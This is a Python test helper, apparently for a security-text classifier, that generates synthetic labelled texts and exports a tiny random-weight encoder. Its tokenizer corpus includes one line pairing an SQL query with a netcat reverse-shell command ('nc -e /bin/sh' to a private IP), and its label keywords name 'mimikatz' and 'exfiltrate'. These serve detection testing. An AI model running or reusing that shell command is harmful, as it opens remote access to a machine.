"""A backbone with random weights, small enough to be made in seconds, and texts that an expert on it can learn."""

import random
from pathlib import Path

import numpy as np
import torch

from watchfloor.lab.encoder import Encoder, Shape, pooled
from watchfloor.lab.encoder_graph import export, in_bytes
from watchfloor.lab.vocabulary import learn

WORDS = [
    a + b for a in ("lo", "mi", "ka", "te", "su", "ra", "po", "ve") for b in ("nar", "bex", "dom", "fil", "gun", "hap")
]
#: Words that give a label away; half of a label's texts hold one of the first, half one of the second.
TELLING = {"malicious": ("mimikatz", "exfiltrate"), "benign": ("backup", "printer"), "unsure": ("firewall", "gateway")}


def made_texts(
    count: int, seed: int, labels: tuple[str, ...] = ("malicious", "benign"), noise: float = 0.0
) -> list[dict[str, str]]:
    """Rows with ``text`` and ``label``: random words among which one tells; ``noise`` is the share of wrong labels."""
    draw = random.Random(seed)
    rows = []
    for number in range(count):
        label = labels[number % len(labels)]
        words = [*(draw.choice(WORDS) + draw.choice(WORDS) for _ in range(7)), draw.choice(TELLING[label])]
        draw.shuffle(words)
        said = draw.choice(labels) if draw.random() < noise else label
        rows.append({"text": " ".join(words), "label": said})
    return rows


def tiny_backbone(folder: Path, *, width: int = 48, places: int = 64) -> Path:
    """Write the pack and return its folder."""
    torch.manual_seed(7)
    texts = [row["text"] for row in made_texts(200, 99, tuple(TELLING))]
    tokenizer = learn([*texts, "select * from users where id = 1; nc -e /bin/sh 10.0.0.1 4444"], 4_600)
    shape = Shape(tokenizer.get_vocab_size(), width=width, heads=4, blocks=2, places=places)
    encoder = Encoder(shape).eval()
    with torch.no_grad():
        for (
            each
        ) in encoder.parameters():  # the exporter keeps equal arrays once, and a new network's norms are all equal
            each.add_(torch.randn_like(each) * 0.02)
    in_bytes(encoder)
    encoded = [torch.tensor([[2, *tokenizer.encode(text, add_special_tokens=False).ids, 3]]) for text in texts]
    with torch.no_grad():
        there = [torch.ones_like(words, dtype=torch.bool) for words in encoded]
        means = torch.cat([pooled(encoder.trunk(w, t), t) for w, t in zip(encoded, there, strict=True)]).numpy()
    centre = means.mean(0)
    _, sizes, axes = np.linalg.svd(means - centre, full_matrices=False)
    whiten = axes[:12].T / (sizes[:12] / len(means) ** 0.5)
    wide = {"nobodys_centres": np.zeros((1, 12)), "nobodys_spreads": np.full((1, 12), 4.0)}
    background = {"centre": centre, "whiten": whiten, "embed": np.eye(width), "embed_bias": np.zeros(width)} | wide
    halved = {name: each.astype(np.float16) for name, each in background.items()}
    export(encoder, tokenizer.to_str(), halved, {"card": {"made": "random"}}, folder)
    return folder
